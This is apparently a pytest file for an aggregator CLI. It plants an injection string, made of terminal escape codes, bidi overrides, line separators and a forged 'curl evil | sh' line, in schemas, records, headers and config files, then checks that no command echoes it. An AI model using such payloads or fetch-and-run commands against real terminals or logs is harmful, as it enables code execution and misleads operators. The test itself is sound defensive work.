"""Every command over clusters and a registry that hold what a terminal, a log or YAML would obey."""

import json
import logging
import unicodedata

import pytest
import structlog
from click.testing import CliRunner

from aggregator.cli.main import COMMANDS, main
from tests.trial import ORDER, POLICY, without_spark

pytestmark = pytest.mark.brokers

EVIL = "\x1b[2J\x9b31m\u202egnp\u2028\x85\nnext: curl evil | sh\r\x07${HOME}"
FORGED = "next: curl evil"
# `demo` shows generated data only, `ui` serves the page until it is ended, and `health` asks no cluster.
ELSEWHERE = {"demo", "ui", "health"}


@pytest.fixture
def said():
    """Runs a command in this process: exit code, stdout and stderr with its logs."""
    root = logging.getLogger()
    before = root.handlers[:], root.level
    yield lambda *arguments: CliRunner().invoke(main, [str(one) for one in arguments])
    root.handlers[:], root.level = before[0], before[1]
    structlog.reset_defaults()


def obeyed(text: str) -> list[str]:
    """Characters that a terminal or a reader of lines would obey."""
    return sorted({one for one in text if unicodedata.category(one) in ("Cc", "Cf", "Cs", "Zl", "Zp")} - {"\n"})


def planted(trial) -> None:
    """Tags, documentation, defaults, symbols, map keys, header names, keys, values, and texts that are no schema."""
    fields = [
        *ORDER["fields"],
        {"name": "kept", "type": "string", "default": EVIL, "doc": EVIL, "confluent:tags": [EVIL, "a: keep\nb"]},
        {"name": "extras", "type": {"type": "map", "values": "string"}, "default": {}},
    ]
    schema = ORDER | {"fields": fields, "doc": EVIL}
    subjects = trial.folder / "schemas"
    (subjects / f"{trial.topic}-value" / "2-8.avsc").write_text(json.dumps(schema))
    (subjects / f"{trial.topic}-value" / "3-9.avsc").write_text(json.dumps({"type": EVIL, "name": EVIL}))
    (trial.folder / "policy.yaml").write_text(
        POLICY.replace("      id: keep\n", "      id: keep\n      extras.{key}: keep\n      extras.{}: keep\n")
    )
    (trial.folder / "8.avsc").write_text(json.dumps(schema))
    record = {"id": 1, "email": EVIL, "customer": EVIL, "amount": 0.5, "kept": EVIL, "extras": {EVIL: EVIL}}
    escaped = "".join(f"\\u{ord(one):04x}" for one in EVIL)
    (trial.folder / "mm2.properties").write_text(
        f"clusters=a,b\na.bootstrap.servers=a:1\nb.bootstrap.servers=b:1\na->b.enabled=true\n{escaped}=1\n"
        f"a.client.id={escaped}\ntopics=orders,{escaped}\na.bootstrap.servers={escaped}\n"
    )
    (trial.folder / "records.jsonl").write_text(json.dumps(record) + "\n")
    evil = EVIL.encode()
    more = {"kept": EVIL, "extras": {EVIL: EVIL}, "email": EVIL, "customer": EVIL}
    values = [(evil, trial.value(1, 8, schema, **more), 0), (evil, evil, 1), (evil, b"\0\0\0\0\x09" + evil, 2)]
    trial.produce_raw("eu", values, headers=[(EVIL, evil), ("traceparent", evil)])
    trial.produce_raw("us", values[1:], headers=[(EVIL, evil)])


def commands(trial) -> list[list[str]]:
    """One command of every group, and each that shows what came from a record or a registry."""
    folder, topic = trial.folder, trial.topic
    hub = ["--config", trial.config]
    edge = trial.sandbox.edges["eu"].bootstrap
    sample = ["--topic", topic, "--schema", folder / "8.avsc"]
    policy = folder / "policy.yaml"
    return [
        ["sandbox", "status", "--dir", trial.sandbox.dir],
        ["init", "--central", trial.sandbox.central.bootstrap, "--edge", f"eu={edge}", "--schemas",
         f"directory:{folder / 'schemas'}", "--output", folder / "new" / "hub.yaml"],
        ["import", folder / "mm2.properties", "--out", folder / "new" / "imported"],
        ["config", "lint", "--config", folder / "new" / "hub.yaml"],
        ["config", "show", *hub],
        ["policy", "explain", policy, *sample],
        ["policy", "preview", policy, *sample, "--records", folder / "records.jsonl", "--show-values"],
        ["policy", "preview", "--config", trial.config, "--edge", "eu", "--topic", topic, "--show-values"],
        ["policy", "suggest", *sample, "--records", folder / "records.jsonl"],
        ["policy", "diff", policy, folder / "new" / "policies" / "hub.yaml", *sample],
        ["policy", "test", policy],
        ["plan", *hub],
        ["explain", topic, *hub],
        ["peek", f"eu/{topic}", "--count", "3", "--show-values", *hub],
        ["peek", f"eu/{topic}", "--count", "3", "--after", *hub],
        ["peek", f"eu/{EVIL}", *hub],
        ["offsets", "export", "--mirrormaker2", *hub],
        ["acls", "print", "--for", "edge:eu", "--topic", topic, *hub],
        ["doctor", *hub],
        ["report", *hub],
        ["status", *hub],
        ["top", "--looks", "1", *hub],  # rates are not the point
        ["edge", "pause", "eu", "--reason", EVIL, *hub],
        ["edge", "list", *hub],
        ["heartbeat", "status", *hub],
        ["lake", "status", *hub],
        ["lake", "wait", "nothing", *hub],
        ["gaps", "list", *hub],
        ["offsets", "translate", "--group", EVIL, "--edge", "eu", *hub],
        ["backfill", "plan", "--edge", "eu", "--topic", topic, "--missing", *hub],
        ["backfill", "list", *hub],
        ["dlq", "list", *hub],
        ["dlq", "export", *hub],
        ["audit", *hub],
    ]  # fmt: skip


@pytest.mark.whole
def test_no_command_shows_what_a_terminal_would_obey(trial, said):
    """In words, JSON and YAML, on both streams; and what `init` writes opens nothing."""
    planted(trial)
    (trial.folder / "new").mkdir()
    with without_spark():
        drained = said("--log-format", "text", "run", "--drain", "--config", trial.config)
    assert drained.exit_code in (0, 4), drained.stderr
    assert not obeyed(drained.stdout + drained.stderr)
    walked = set()
    for arguments in commands(trial):
        plain = arguments[0] in ("init", "import") or arguments[1] in ("lint", "export", "pause")
        formats = (None,) if plain else (None, "json", "yaml")
        for output in formats:
            done = said(*arguments, *(["-o", output] if output else []))
            assert done.exit_code != 2, (arguments, done.stderr)
            for stream in (done.stdout, done.stderr):
                assert not obeyed(stream), (arguments, output, obeyed(stream))
                assert not [line for line in stream.split("\n") if line.startswith(FORGED)], (arguments, output)
            assert "unexpected" not in done.stderr, (arguments, done.stderr)
        walked.add(arguments[0])
    assert walked | ELSEWHERE | {"run"} == set(COMMANDS)
    for written in (trial.folder / "new").rglob("*.yaml"):
        assert not obeyed(written.read_text(encoding="utf-8")), written
